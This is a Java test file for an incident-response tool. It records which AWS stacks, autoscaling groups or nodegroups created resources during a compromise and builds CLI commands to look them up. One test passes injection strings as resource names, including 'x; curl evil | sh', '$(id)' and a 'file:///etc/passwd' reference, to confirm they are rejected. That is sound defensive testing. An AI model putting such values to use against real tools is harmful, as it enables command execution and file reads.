package org.eksrunbook.asset;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.eksrunbook.evidence.Actor;
import org.eksrunbook.evidence.Ledger;
import org.eksrunbook.incident.IncidentId;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A resource says what made it, and what made it how many it made and how to look up the rest. */
class BelongingsTest {

    private static final String STACK = "arn:aws:cloudformation:" + CaseContext.REGION + ":" + CaseContext.ACCOUNT
            + ":stack/perf/0a1b2c3d-0000-1111-2222-333344445555";
    private static final MadeBy BY_STACK = by("AWS::CloudFormation::Stack", "perf", STACK);

    @TempDir
    Path folder;

    private CaseContext context;
    private Inventory inventory;
    private final IncidentId id = IncidentId.of("INC-1");

    @BeforeEach
    void open() {
        context = new CaseContext(Databases.h2(), folder);
        inventory = context.get(Inventory.class);
        context.open("INC-1");
    }

    @AfterEach
    void close() {
        context.close();
    }

    private static MadeBy by(String type, String name, @Nullable String arn) {
        return new MadeBy(
                type,
                name,
                arn,
                CaseContext.ACCOUNT,
                CaseContext.REGION,
                "e1",
                "id",
                "the stack perf: it says so",
                true,
                null);
    }

    private static Observation call(String event, int minute, Change change, ResourceRef thing, MadeBy... makers) {
        Instant time = CaseContext.COMPROMISED.plusSeconds(60L * minute);
        String noun = thing.type().substring(thing.type().lastIndexOf(':') + 1);
        String action = (change == Change.CREATED ? "Create" : "Update") + noun;
        return new Observation(event, time, action, List.of(change), true, List.of(thing), "attacker", List.of(makers));
    }

    private static ResourceRef thing(String type, String name, @Nullable String arn) {
        return new ResourceRef(type, name, arn, CaseContext.ACCOUNT, CaseContext.REGION);
    }

    private static ResourceRef function(String name) {
        return thing("AWS::Lambda::Function", name, null);
    }

    private void build(Observation... calls) {
        inventory.build(id, "round-1", List.of(calls));
    }

    private InventoryRow row(String name) {
        return inventory.rows(id).stream()
                .filter(one -> one.id().equals(name))
                .findFirst()
                .orElseThrow();
    }

    @Test
    void whatAStackMadeNamesItAndTheStackSaysHowMuchItMadeAndHowToLookUpTheRest() {
        build(
                call("e1", 1, Change.CREATED, thing("AWS::CloudFormation::Stack", "perf", STACK)),
                call("e2", 2, Change.CREATED, function("collector"), BY_STACK),
                call("e3", 3, Change.MODIFIED, function("old"), BY_STACK));
        InventoryRow stack = row("perf");
        assertThat(row("collector").madeBy()).singleElement().satisfies(maker -> {
            assertThat(maker.resource()).isEqualTo(stack.key());
            assertThat(maker.why()).isEqualTo("the stack perf: it says so");
        });
        assertThat(row("old").madeBy()).as("was there, and was changed").isEmpty();
        assertThat(stack.makes())
                .isEqualTo(new Making(
                        1,
                        0,
                        CaseContext.ACCOUNT,
                        "aws cloudformation list-stack-resources --stack-name " + STACK + " --region "
                                + CaseContext.REGION));
        assertThat(row("collector").makes()).isNull();
    }

    @Test
    void rowsMadeAgainFromTheLedgerSayTheSame() {
        build(
                call("e1", 1, Change.MODIFIED, thing("AWS::CloudFormation::Stack", "perf", null)),
                call("e2", 2, Change.CREATED, function("collector"), BY_STACK));
        List<InventoryRow> before = inventory.rows(id);
        inventory.rebuild(id);
        assertThat(inventory.rows(id)).isEqualTo(before);
        assertThat(row("collector").madeBy()).hasSize(1);
    }

    @Test
    void whatAPersonTakesOutIsNotMadeByAnything() {
        build(
                call("e1", 1, Change.CREATED, thing("AWS::CloudFormation::Stack", "perf", STACK)),
                call("e2", 2, Change.CREATED, function("collector"), BY_STACK));
        context.get(Ledger.class)
                .append(
                        id,
                        "findings.reviewed",
                        Actor.user("rita"),
                        Map.of("overruled", List.of(Map.of("eventId", "e2", "to", "none"))));
        Making makes = Objects.requireNonNull(row("perf").makes());
        assertThat(makes.listed()).isZero();
        assertThat(makes.words()).startsWith("Of no resource here the logs tell that it made it. What AWS knows");
    }

    @Test
    void whatItPerhapsMadeIsNotCountedAsMade() {
        MadeBy perhaps = new MadeBy(
                BY_STACK.type(),
                BY_STACK.id(),
                STACK,
                CaseContext.ACCOUNT,
                CaseContext.REGION,
                "e1",
                "caller",
                "the stack perf: perhaps",
                false,
                null);
        build(
                call("e1", 1, Change.CREATED, thing("AWS::CloudFormation::Stack", "perf", STACK)),
                call("e2", 2, Change.CREATED, function("collector"), BY_STACK),
                call("e3", 3, Change.CREATED, function("other"), perhaps));
        Making makes = Objects.requireNonNull(row("perf").makes());
        assertThat(makes.listed()).isEqualTo(1);
        assertThat(makes.perhaps()).isEqualTo(1);
        assertThat(makes.words())
                .startsWith("1 of the resources here was made by it, perhaps of 1 more. What AWS knows of what it made,"
                        + " in account " + CaseContext.ACCOUNT + ": aws ");
    }

    @Test
    void stackOfTheSameNameWithAnotherIdIsNotTheOneOfTheRow() {
        String other = STACK.replace("0a1b2c3d", "ffffffff");
        build(
                call("e1", 1, Change.CREATED, thing("AWS::CloudFormation::Stack", "perf", STACK)),
                call("e2", 2, Change.CREATED, function("collector"), by("AWS::CloudFormation::Stack", "perf", other)));
        assertThat(row("collector").madeBy())
                .singleElement()
                .satisfies(maker -> assertThat(maker.resource()).isNull());
        assertThat(Objects.requireNonNull(row("perf").makes()).listed()).isZero();
    }

    @Test
    void whereOneIdIsNotKnownTheAttackersCallHasToBe() {
        MadeBy anybodys = new MadeBy(
                BY_STACK.type(),
                "perf",
                null,
                CaseContext.ACCOUNT,
                CaseContext.REGION,
                null,
                "tag",
                "the stack perf: it says so",
                true,
                null);
        build(
                call("e1", 1, Change.CREATED, thing("AWS::CloudFormation::Stack", "perf", STACK)),
                call("e2", 2, Change.CREATED, function("collector"), anybodys),
                call("e3", 3, Change.CREATED, function("his"), by("AWS::CloudFormation::Stack", "perf", null)));
        assertThat(row("collector").madeBy().get(0).resource()).isNull();
        assertThat(row("his").madeBy().get(0).resource()).isEqualTo(row("perf").key());
    }

    @Test
    void eachMakerHasItsLookUp() {
        assertThat(lookUp("AWS::CloudFormation::StackSet", "baseline"))
                .startsWith("aws cloudformation list-stack-instances --stack-set-name baseline --region ");
        assertThat(lookUp("AWS::AutoScaling::AutoScalingGroup", "miners"))
                .startsWith(
                        "aws autoscaling describe-scaling-activities --include-deleted-groups --auto-scaling-group-name miners");
        assertThat(lookUp("AWS::EKS::Nodegroup", "prod|extra"))
                .startsWith("aws eks describe-nodegroup --cluster-name prod --nodegroup-name extra");
        assertThat(lookUp("AWS::ElasticBeanstalk::Environment", "shop")).contains("--environment-name shop");
        assertThat(lookUp("AWS::ElasticBeanstalk::Environment", "e-abcdefghij"))
                .contains("--environment-id e-abcdefghij");
    }

    @Test
    void aNameThatTheAttackerMadeUpToBeRunIsInNoCommand() {
        assertThat(lookUp("AWS::AutoScaling::AutoScalingGroup", "x; curl evil | sh"))
                .isNull();
        assertThat(lookUp("AWS::AutoScaling::AutoScalingGroup", "--profile=other"))
                .isNull();
        assertThat(lookUp("AWS::EKS::Nodegroup", "prod|$(id)")).isNull();
        assertThat(lookUp("AWS::AutoScaling::AutoScalingGroup", "file:///etc/passwd"))
                .as("the AWS CLI would read it")
                .isNull();
    }

    @Test
    void whereTheLogsTellTooLittleForACommandThereIsNone() {
        assertThat(lookUp("AWS::FMS::Policy", "open"))
                .as("compliance is not what it made")
                .isNull();
        assertThat(lookUp("AWS::EKS::Nodegroup", "extra")).isNull();
    }

    private @Nullable String lookUp(String type, String name) {
        inventory.build(id, "round " + type + name, List.of(call("e1", 1, Change.CREATED, thing(type, name, null))));
        return Objects.requireNonNull(row(name).makes()).lookUp();
    }
}
